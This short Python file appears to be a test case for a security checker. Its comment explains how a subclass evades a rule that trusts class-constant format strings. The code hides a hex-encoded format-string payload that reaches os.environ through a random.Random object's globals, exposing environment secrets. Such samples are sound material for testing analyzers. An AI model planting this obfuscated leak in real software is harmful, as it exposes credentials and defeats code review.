# family: format
# Escape: cls.LAYOUT.format(...) is trusted because a class body binds LAYOUT to a constant and no attribute
# store names LAYOUT. The classmethod is called on a subclass whose body binds LAYOUT to a string decoded at
# class creation: "{0.__init__.__globals__[_os].environ}", which walks random.Random to os.environ.
import random


class Layout:
    LAYOUT = "<{0}>"

    @classmethod
    def render(cls, value) -> str:
        return cls.LAYOUT.format(value)


class Loaded(Layout):
    LAYOUT = bytes.fromhex("7b302e5f5f696e69745f5f2e5f5f676c6f62616c735f5f5b5f6f735d2e656e7669726f6e7d").decode()


def tool() -> str:
    return Loaded.render(random.Random())
